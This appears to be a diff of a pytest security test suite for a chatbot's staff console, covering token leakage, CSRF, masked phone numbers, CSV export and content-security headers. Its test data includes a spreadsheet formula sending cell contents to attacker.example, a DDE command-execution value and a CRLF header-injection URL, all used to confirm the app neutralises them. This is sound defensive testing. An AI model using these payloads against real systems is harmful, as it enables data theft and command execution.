@@ -2,6 +2,7 @@
 
 Staff users and tokens are created with bot.store.leads on the stack's database; every test uses its own.
 """
+
 from __future__ import annotations
 
 import csv
@@ -22,41 +23,7 @@ import sqlalchemy as sa
 from bot import db
 from bot.store import handoffs, leads
 from bot.store import staff as staff_store
-
-PASSWORD = "console attack test password"
-
-
-def unique(prefix: str) -> str:
-    return f"{prefix}-{uuid.uuid4().hex[:10]}"
-
-
-def make_user(stack, role: str, name: str | None = None) -> str:
-    name = name or unique(f"sec-{role}")
-    with db.session_scope(stack.database_url) as session:
-        staff_store.create_user(name, role, PASSWORD, session=session)
-    return name
-
-
-def make_token(stack, role: str = "agent", name: str | None = None) -> str:
-    with db.session_scope(stack.database_url) as session:
-        return staff_store.create_token(name or unique(f"sec-token-{role}"), role=role, session=session)
-
-
-def bearer(token: str) -> dict:
-    return {"Authorization": f"Bearer {token}"}
-
-
-def log_in(stack, name: str) -> requests.Session:
-    """A browser-like console session (cookie) that also knows its CSRF token."""
-    browser = requests.Session()
-    page = browser.get(f"{stack.web_url}/console/login", timeout=10).text
-    browser.csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
-    answer = browser.post(f"{stack.web_url}/console/login", data={
-        "username": name, "password": PASSWORD, "csrf_token": browser.csrf}, allow_redirects=False, timeout=30)
-    assert answer.status_code == 302, answer.text
-    page = browser.get(f"{stack.web_url}/console/leads", timeout=10).text
-    browser.csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
-    return browser
+from tests.support.console import PASSWORD, bearer, log_in, make_token, make_user, unique
 
 
 def raw_request(stack, method: str, path: str, headers: dict) -> tuple[int, str]:
@@ -64,8 +31,12 @@ def raw_request(stack, method: str, path: str, headers: dict) -> tuple[int, str]
     parts = urlsplit(stack.web_url)
     connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
     try:
-        connection.request(method, path, body=b"{}" if method == "POST" else None,
-                           headers={**headers, "Content-Type": "application/json"})
+        connection.request(
+            method,
+            path,
+            body=b"{}" if method == "POST" else None,
+            headers={**headers, "Content-Type": "application/json"},
+        )
         answer = connection.getresponse()
         return answer.status, answer.read().decode("utf-8", "replace")
     finally:
@@ -90,8 +61,12 @@ def tracker_events(stack, sender: str) -> list[tuple[str, str]]:
     engine = db.get_engine(stack.tracker_store_url)
     events = sa.Table("events", sa.MetaData(), autoload_with=engine)
     with engine.connect() as connection:
-        return [(row.type_name, json.loads(row.data or "{}").get("text") or "") for row in connection.execute(
-            sa.select(events.c.type_name, events.c.data).where(events.c.sender_id == sender))]
+        return [
+            (row.type_name, json.loads(row.data or "{}").get("text") or "")
+            for row in connection.execute(
+                sa.select(events.c.type_name, events.c.data).where(events.c.sender_id == sender)
+            )
+        ]
 
 
 def new_log(stack, offset: int) -> str:
@@ -114,8 +89,9 @@ def test_f01_n01_id_tricks_never_return_the_rasa_token(stack, agent_token, conve
     """F1, N1: ids that end or climb out of the Rasa URL get a clean 4xx, never the token (body or log)."""
     offset = stack.log.stat().st_size
     for method, action in [("GET", "messages"), ("POST", "messages"), ("POST", "claim"), ("POST", "end")]:
-        status, body = raw_request(stack, method, f"/console/api/handoffs/{conversation_id}/{action}",
-                                   bearer(agent_token))
+        status, body = raw_request(
+            stack, method, f"/console/api/handoffs/{conversation_id}/{action}", bearer(agent_token)
+        )
         assert stack.token not in body and "token=" not in body and "5005" not in body, (method, action, body)
         assert 400 <= status < 500, (method, action, status, body)
     time.sleep(1)
@@ -131,8 +107,9 @@ def test_f01_n01_an_open_handoff_whose_id_breaks_urls_fails_cleanly(stack, agent
     headers = bearer(agent_token)
     claimed = requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/claim", headers=headers, timeout=15)
     assert claimed.status_code == 200
-    sent = requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/messages", headers=headers,
-                         json={"text": "您好"}, timeout=15)
+    sent = requests.post(
+        f"{stack.web_url}/console/api/handoffs/{encoded}/messages", headers=headers, json={"text": "您好"}, timeout=15
+    )
     read = requests.get(f"{stack.web_url}/console/api/handoffs/{encoded}/messages", headers=headers, timeout=15)
     for answer in (sent, read):
         assert answer.status_code == 400 and stack.token not in answer.text
@@ -152,10 +129,16 @@ def test_n01_a_staff_message_never_lands_in_a_lookalike_conversation(stack, agen
     queue(stack, attacker)
     encoded = quote(attacker, safe="")
     headers = bearer(agent_token)
-    assert requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/claim", headers=headers,
-                         timeout=15).status_code == 200
-    sent = requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/messages", headers=headers,
-                         json={"text": "员工消息-不应串线"}, timeout=15)
+    assert (
+        requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/claim", headers=headers, timeout=15).status_code
+        == 200
+    )
+    sent = requests.post(
+        f"{stack.web_url}/console/api/handoffs/{encoded}/messages",
+        headers=headers,
+        json={"text": "员工消息-不应串线"},
+        timeout=15,
+    )
     assert sent.status_code == 400
     requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/end", headers=headers, timeout=15)
     time.sleep(1)
@@ -171,10 +154,14 @@ def test_n01_ids_with_url_punctuation_reach_exactly_their_own_conversation(stack
     headers = bearer(agent_token)
     url = f"{stack.web_url}/console/api/handoffs/{quote(sender, safe='')}"
     assert requests.post(f"{url}/claim", headers=headers, timeout=15).status_code == 200
-    assert requests.post(f"{url}/messages", headers=headers, json={"text": "顾问在此-精确送达"},
-                         timeout=15).status_code == 201
-    assert any(m["sender"] == "staff" and m["text"] == "顾问在此-精确送达"
-               for m in requests.get(f"{url}/messages", headers=headers, timeout=15).json()["messages"])
+    assert (
+        requests.post(f"{url}/messages", headers=headers, json={"text": "顾问在此-精确送达"}, timeout=15).status_code
+        == 201
+    )
+    assert any(
+        m["sender"] == "staff" and m["text"] == "顾问在此-精确送达"
+        for m in requests.get(f"{url}/messages", headers=headers, timeout=15).json()["messages"]
+    )
     assert ("bot", "顾问在此-精确送达") in tracker_events(stack, sender)
     assert requests.post(f"{url}/end", headers=headers, timeout=15).status_code == 200
     assert any("人工服务已结束" in text for _, text in tracker_events(stack, sender))
@@ -184,8 +171,9 @@ def test_f01_messages_of_a_conversation_without_an_open_handoff_are_not_served(s
     """F1, F12: GET /handoffs/<id>/messages is not a side door into any conversation."""
     sender = unique("f1-closed")
     stack.text(sender, "我的电话是13812345678")
-    answer = requests.get(f"{stack.web_url}/console/api/handoffs/{sender}/messages", headers=bearer(agent_token),
-                          timeout=15)
+    answer = requests.get(
+        f"{stack.web_url}/console/api/handoffs/{sender}/messages", headers=bearer(agent_token), timeout=15
+    )
     assert answer.status_code == 404 and "13812345678" not in answer.text
 
 
@@ -215,8 +203,9 @@ def test_i06_a_token_named_like_a_user_is_not_that_user(stack):
     staff = log_in(stack, name)
     url = f"{stack.web_url}/console/api/handoffs/{sender}"
     assert staff.post(f"{url}/claim", headers={"X-CSRF-Token": staff.csrf}, timeout=15).status_code == 200
-    assert requests.post(f"{url}/messages", headers=bearer(impostor), json={"text": "冒充"},
-                         timeout=15).status_code == 409
+    assert (
+        requests.post(f"{url}/messages", headers=bearer(impostor), json={"text": "冒充"}, timeout=15).status_code == 409
+    )
     assert requests.post(f"{url}/end", headers=bearer(impostor), timeout=15).status_code == 409
     assert staff.post(f"{url}/end", headers={"X-CSRF-Token": staff.csrf}, timeout=15).status_code == 200
 
@@ -246,8 +235,10 @@ def test_f12_agents_see_masked_phones_on_lead_pages_and_transcripts(stack, agent
     sender, phone = unique("f12-pii"), "139" + str(uuid.uuid4().int)[:8]
     stack.text(sender, f"我的电话是{phone}，请联系我")
     with db.session_scope(stack.database_url) as session:
-        lead, _ = leads.save_lead({"conversation_id": sender, "channel": "rest", "name": "钱先生", "phone": phone,
-                                   "consent": True}, session=session)
+        lead, _ = leads.save_lead(
+            {"conversation_id": sender, "channel": "rest", "name": "钱先生", "phone": phone, "consent": True},
+            session=session,
+        )
         lead_id = lead.id
     masked = leads.mask_phone(phone)
     agent, admin = log_in(stack, make_user(stack, "agent")), log_in(stack, make_user(stack, "admin"))
@@ -265,12 +256,25 @@ def test_f12_agents_see_masked_phones_on_lead_pages_and_transcripts(stack, agent
 # ---------- F6: the leads export
 def test_f06_export_cells_never_start_a_formula(stack):
     """F6: visitor text that Excel would run as a formula is exported as text (prefixed with ')."""
-    payloads = {"name": "=1+2", "company": '=HYPERLINK("https://attacker.example/x/"&E3,"查看")',
-                "region": "+SUM(1)", "visitor_note": "@cmd|' /C calc'!A0", "licence": "-1"}
+    payloads = {
+        "name": "=1+2",
+        "company": '=HYPERLINK("https://attacker.example/x/"&E3,"查看")',
+        "region": "+SUM(1)",
+        "visitor_note": "@cmd|' /C calc'!A0",
+        "licence": "-1",
+    }
     sender = unique("f6-formula")
     with db.session_scope(stack.database_url) as session:
-        lead, _ = leads.save_lead({"conversation_id": "\uff1d" + sender, "channel": "rest", "phone": "13700001111",
-                                   "consent": True, **payloads}, session=session)
+        lead, _ = leads.save_lead(
+            {
+                "conversation_id": "\uff1d" + sender,
+                "channel": "rest",
+                "phone": "13700001111",
+                "consent": True,
+                **payloads,
+            },
+            session=session,
+        )
         lead_id = lead.id
     admin = log_in(stack, make_user(stack, "admin"))
     text = admin.get(f"{stack.web_url}/console/leads/export.csv", timeout=30).content.decode("utf-8-sig")
@@ -321,8 +325,11 @@ def test_f10_an_unknown_user_takes_as_long_as_a_wrong_password(stack):
         page = browser.get(f"{stack.web_url}/console/login", timeout=10).text
         token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
         started = time.perf_counter()
-        answer = browser.post(f"{stack.web_url}/console/login", timeout=30, data={
-            "username": username, "password": "wrong password!", "csrf_token": token})
+        answer = browser.post(
+            f"{stack.web_url}/console/login",
+            timeout=30,
+            data={"username": username, "password": "wrong password!", "csrf_token": token},
+        )
         assert answer.status_code == 401
         return time.perf_counter() - started
 
@@ -335,10 +342,12 @@ def test_f10_an_unknown_user_takes_as_long_as_a_wrong_password(stack):
 def test_n06_console_pages_and_api_cannot_be_framed_sniffed_or_cached(stack, agent_token):
     """N6, I1: the console forbids framing and inline scripts, and nothing of it is stored by caches."""
     admin = log_in(stack, make_user(stack, "admin"))
-    for answer in (requests.get(f"{stack.web_url}/console/login", timeout=10),
-                   admin.get(f"{stack.web_url}/console/leads", timeout=10),
-                   admin.get(f"{stack.web_url}/console/leads/export.csv", timeout=10),
-                   requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(agent_token), timeout=10)):
+    for answer in (
+        requests.get(f"{stack.web_url}/console/login", timeout=10),
+        admin.get(f"{stack.web_url}/console/leads", timeout=10),
+        admin.get(f"{stack.web_url}/console/leads/export.csv", timeout=10),
+        requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(agent_token), timeout=10),
+    ):
         policy = answer.headers.get("Content-Security-Policy", "")
         assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy, answer.url
         assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
@@ -350,8 +359,11 @@ def test_n06_console_pages_and_api_cannot_be_framed_sniffed_or_cached(stack, age
 
 def test_n06_widget_files_stay_embeddable_from_other_sites(stack):
     """N6: the widget's script, styles and socket.io client load cross-site (no blocking CORP), typed and nosniff."""
-    for path, kind in [("/widget.js", "javascript"), ("/widget.css", "text/css"),
-                       ("/vendor/socket.io.min.js", "javascript")]:
+    for path, kind in [
+        ("/widget.js", "javascript"),
+        ("/widget.css", "text/css"),
+        ("/vendor/socket.io.min.js", "javascript"),
+    ]:
         answer = requests.get(stack.web_url + path, headers={"Origin": "https://customer.example"}, timeout=10)
         assert answer.status_code == 200 and kind in answer.headers["Content-Type"]
         assert answer.headers.get("X-Content-Type-Options") == "nosniff"
@@ -364,10 +376,18 @@ def test_n08_non_ascii_tokens_are_refused_cleanly(stack):
     """N8, I2: a non-ASCII CSRF or bearer token gets 401/403, not 500."""
     staff = log_in(stack, make_user(stack, "agent"))
     assert staff.post(f"{stack.web_url}/console/logout", data={"csrf_token": "é"}, timeout=10).status_code == 403
-    assert staff.post(f"{stack.web_url}/console/api/handoffs/x/claim", headers={"X-CSRF-Token": "é".encode()},
-                      timeout=10).status_code == 403
-    assert requests.get(f"{stack.web_url}/console/api/leads", headers={"Authorization": "Bearer é".encode()},
-                        timeout=10).status_code == 401
+    assert (
+        staff.post(
+            f"{stack.web_url}/console/api/handoffs/x/claim", headers={"X-CSRF-Token": "é".encode()}, timeout=10
+        ).status_code
+        == 403
+    )
+    assert (
+        requests.get(
+            f"{stack.web_url}/console/api/leads", headers={"Authorization": "Bearer é".encode()}, timeout=10
+        ).status_code
+        == 401
+    )
 
 
 def test_n08_crlf_in_next_after_login_is_refused_cleanly(stack):
@@ -376,9 +396,12 @@ def test_n08_crlf_in_next_after_login_is_refused_cleanly(stack):
     browser = requests.Session()
     page = browser.get(f"{stack.web_url}/console/login", timeout=10).text
     token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
-    answer = browser.post(f"{stack.web_url}/console/login?next=%2Fconsole%0d%0aSet-Cookie%3A%20x%3D1",
-                          data={"username": name, "password": PASSWORD, "csrf_token": token},
-                          allow_redirects=False, timeout=30)
+    answer = browser.post(
+        f"{stack.web_url}/console/login?next=%2Fconsole%0d%0aSet-Cookie%3A%20x%3D1",
+        data={"username": name, "password": PASSWORD, "csrf_token": token},
+        allow_redirects=False,
+        timeout=30,
+    )
     assert answer.status_code == 302 and "\n" not in answer.headers["Location"]
     assert urlsplit(answer.headers["Location"]).path.rstrip("/") == "/console"
     assert "x" not in browser.cookies
@@ -386,13 +409,13 @@ def test_n08_crlf_in_next_after_login_is_refused_cleanly(stack):
 
 # ---------- N6, I1 in a real browser: the policies break nothing a user does
 def _browser(playwright, *extra: str):
-    from tests.test_widget_browser import ARGS, CHROMIUM
+    from tests.support.browser import ARGS, CHROMIUM
 
     return playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS + list(extra), headless=True)
 
 
 def _chromium_missing() -> bool:
-    from tests.test_widget_browser import CHROMIUM
+    from tests.support.browser import CHROMIUM
 
     return not Path(CHROMIUM).exists()
 
@@ -403,6 +426,7 @@ document.addEventListener("securitypolicyviolation", function (e) {
 });"""
 
 
+@pytest.mark.browser  # launches chromium itself: named here, as no fixture shows it
 @pytest.mark.skipif(_chromium_missing(), reason="Debian chromium is installed by make test")
 def test_i01_the_console_works_under_its_content_security_policy(stack):
     """I1, N6: styles, dashboard charts and the handoff desk run with no CSP violation."""
@@ -432,6 +456,7 @@ def test_i01_the_console_works_under_its_content_security_policy(stack):
         browser.close()
 
 
+@pytest.mark.browser  # launches chromium itself: named here, as no fixture shows it
 @pytest.mark.skipif(_chromium_missing(), reason="Debian chromium is installed by make test")
 def test_n06_the_widget_embeds_in_a_customer_site_even_under_coep(stack):
     """N6: a customer page on another origin (here with COEP require-corp) loads the widget and gets answers."""
@@ -439,16 +464,24 @@ def test_n06_the_widget_embeds_in_a_customer_site_even_under_coep(stack):
 
     web = urlsplit(stack.web_url)
     customer = f"http://localhost:{web.port}/customer-site"  # another origin, listed in CORS_ORIGINS
-    html = (f'<!doctype html><html><head><meta charset="utf-8"></head><body><h1>客户网站</h1>'
-            f'<script src="{stack.web_url}/widget.js" data-server="{stack.web_url}" async></script></body></html>')
+    html = (
+        f'<!doctype html><html><head><meta charset="utf-8"></head><body><h1>客户网站</h1>'
+        f'<script src="{stack.web_url}/widget.js" data-server="{stack.web_url}" async></script></body></html>'
+    )
     with sync_playwright() as playwright:
         # the customer page is served by Playwright, which chromium counts as a public address: allow it to
         # reach the loopback servers of the test stack as a real customer site reaches the public web app
         browser = _browser(playwright, "--disable-features=LocalNetworkAccessChecks")
         page = browser.new_page(locale="zh-CN")
         page.set_default_timeout(30000)
-        page.route(customer, lambda route: route.fulfill(status=200, body=html, headers={
-            "Content-Type": "text/html; charset=utf-8", "Cross-Origin-Embedder-Policy": "require-corp"}))
+        page.route(
+            customer,
+            lambda route: route.fulfill(
+                status=200,
+                body=html,
+                headers={"Content-Type": "text/html; charset=utf-8", "Cross-Origin-Embedder-Policy": "require-corp"},
+            ),
+        )
         page.goto(customer)
         page.get_by_test_id("chat-launcher").click()
         page.get_by_test_id("chat-input").fill("全网和地网有什么区别")
